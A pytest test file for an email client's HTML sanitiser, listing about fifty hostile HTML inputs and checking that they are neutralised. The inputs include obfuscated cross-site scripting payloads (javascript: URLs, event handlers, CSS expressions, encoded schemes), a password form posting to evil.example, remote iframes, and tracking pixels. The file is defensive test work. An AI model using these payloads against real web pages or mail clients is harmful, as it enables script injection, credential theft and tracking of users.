"""Hostile HTML: nothing that runs code or fetches from the network survives sanitising."""

from __future__ import annotations

import pytest

from deskmail.engine.mime.render import render_message
from deskmail.engine.mime.sanitize import REMOTE_PLACEHOLDER, sanitize_html
from tests.unit.mime_checks import assert_safe_html

HOSTILE = [
    "<script>alert(1)</script>hello",
    '<img src="x.png" onerror="alert(1)">',
    '<body onload="alert(1)">x</body>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt&#58;alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<div style="width: expression(alert(1))">x</div>',
    '<div style="background: url(javascript:alert(1))">x</div>',
    '<div style="behavior: url(x.htc)">x</div>',
    '<div style="-moz-binding: url(http://evil/x.xml#x)">x</div>',
    '<div style="background:u\\72l(http://evil/x.png)">x</div>',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">text',
    '<iframe src="http://evil.example/"></iframe>',
    '<object data="http://evil.example/x.swf"></object><embed src="http://evil.example/x.swf">',
    '<form action="http://evil.example/"><input name="password"><button>Go</button></form>',
    '<svg><script>alert(1)</script><image href="http://evil.example/x.png"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    "<style>body { background: url(http://evil.example/track.png) }</style>",
    '<base href="http://evil.example/"><img src="tracker.png">',
    '<img src="http://tracker.example/open.gif?u=1">',
    '<img src="//tracker.example/open.gif">',
    '<img srcset="http://tracker.example/a.png 1x, https://tracker.example/b.png 2x">',
    '<table background="http://tracker.example/bg.png"><tr><td background="https://t.example/x">x</td></tr></table>',
    '<div style="background-image: url(&quot;https://tracker.example/bg.png&quot;)">x</div>',
    '<div style="position: fixed; top: 0; left: 0; width: 100%">fake login bar</div>',
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->text",
    '<img src="x" onerror="alert(1)"/><svg/onload=alert(1)>',
    '<a href="http://ok.example/" onclick="steal()">link</a>',
    '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>',
    '<img src="jav&#x09;ascript:alert(1)">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<div style=\"background:url('java\0script:alert(1)')\">x</div>",
    '<xss style="xss:expression(alert(1))">x</xss>',
    '<isindex action="javascript:alert(1)" type="image">',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<img srcset="javascript:alert(1) 1x, data:image/svg+xml,<svg onload=alert(1)> 2x">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<style>@import "http://evil.example/x.css";</style><p>x</p>',
    '<a href="http://ok.example/"><img src="https://t.example/pixel.gif" width="1" height="1"></a>',
    '<body background="http://t.example/bg.png" onload="alert(1)">x</body>',
    '<input type="image" src="http://t.example/x.png" formaction="javascript:alert(1)">',
    '<video poster="http://t.example/p.png"><source src="http://t.example/v.mp4"></video>',
    "<div style=\"width:100px;height:100px;background-image:-webkit-image-set('http://t.example/a.png' 1x)\">x</div>",
]


@pytest.mark.parametrize("markup", HOSTILE)
def test_hostile_html_is_neutralised(markup: str) -> None:
    result = sanitize_html(markup)
    assert_safe_html(result.html)
    lowered = result.html.lower()
    for word in ("javascript", "vbscript", "expression(", "alert(", "<meta", "<iframe", "<form", "<object"):
        assert word not in lowered


def test_remote_images_are_blocked_and_reported() -> None:
    result = sanitize_html('<p>Hi</p><img src="https://tracker.example/open.gif" alt="logo">')
    assert result.has_remote_content and result.remote_blocked
    assert "tracker.example" not in result.html
    assert REMOTE_PLACEHOLDER in result.html
    assert 'alt="logo"' in result.html


def test_a_blocked_image_leaves_no_gap_but_shown_images_keep_their_size() -> None:
    banner = '<img src="https://t.example/banner.jpg" width="480" height="160" style="height: 160px; border: 0">'
    blocked = sanitize_html(f'<p>Hi</p>{banner}<img src="cid:logo" width="64" height="64">')
    assert blocked.remote_blocked and "t.example" not in blocked.html
    placeholder = blocked.html.split("<img")[1]
    assert REMOTE_PLACEHOLDER in placeholder and "480" not in placeholder and "160" not in placeholder
    assert 'style="border: 0"' in placeholder
    assert 'width="64" height="64"' in blocked.html  # an inline image keeps its size
    shown = sanitize_html(banner, allow_remote=True)
    assert 'width="480" height="160"' in shown.html


@pytest.mark.parametrize(
    "markup",
    [
        '<img srcset="https://t.example/a.png 1x">',
        '<table><tr><td background="https://t.example/bg.png">x</td></tr></table>',
        '<div style="background: url(https://t.example/bg.png)">x</div>',
        '<span style="background-image:url(//t.example/bg.png)">x</span>',
    ],
)
def test_every_kind_of_remote_reference_is_reported(markup: str) -> None:
    result = sanitize_html(markup)
    assert result.remote_blocked
    assert "t.example" not in result.html


def test_remote_content_is_kept_when_the_user_allows_it() -> None:
    markup = '<img src="https://cdn.example/a.png"><div style="background: url(https://cdn.example/b.png)">x</div>'
    result = sanitize_html(markup, allow_remote=True)
    assert result.has_remote_content and not result.remote_blocked
    assert 'src="https://cdn.example/a.png"' in result.html
    assert "url(https://cdn.example/b.png)" in result.html


def test_allowing_remote_content_still_strips_scripts() -> None:
    result = sanitize_html(
        '<img src="https://a.example/x.png" onerror="alert(1)"><script>x()</script>', allow_remote=True
    )
    assert "onerror" not in result.html and "<script" not in result.html


def test_cid_images_are_resolved_and_not_remote() -> None:
    result = sanitize_html('<img src="cid:Logo@Example">', cid_urls={"logo@example": "data:image/png;base64,AAAA"})
    assert 'src="data:image/png;base64,AAAA"' in result.html
    assert not result.has_remote_content


def test_ordinary_formatting_survives() -> None:
    markup = (
        '<table width="100%" cellpadding="4"><tr><td bgcolor="#eeeeee" style="color: #333; font-size: 14px">'
        '<b>Bold</b> <a href="https://example.com/">link</a> <font color="red">red</font></td></tr></table>'
    )
    html = sanitize_html(markup).html
    for kept in (
        'cellpadding="4"',
        'bgcolor="#eeeeee"',
        "color: #333",
        "<b>Bold</b>",
        'href="https://example.com/"',
        '<font color="red">',
    ):
        assert kept in html


def test_links_do_not_leak_the_referrer() -> None:
    assert 'rel="noopener noreferrer"' in sanitize_html('<a href="https://example.com/">x</a>').html


def test_inline_svg_is_not_embedded_as_a_data_uri() -> None:
    raw = (
        b"Subject: svg\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=r\r\n\r\n"
        b'--r\r\nContent-Type: text/html\r\n\r\n<img src="cid:pic@x">\r\n'
        b'--r\r\nContent-Type: image/svg+xml\r\nContent-ID: <pic@x>\r\n\r\n<svg onload="alert(1)"/>\r\n--r--\r\n'
    )
    view = render_message(raw)
    assert "data:image/svg" not in view.body_html and 'src="cid:pic@x"' in view.body_html
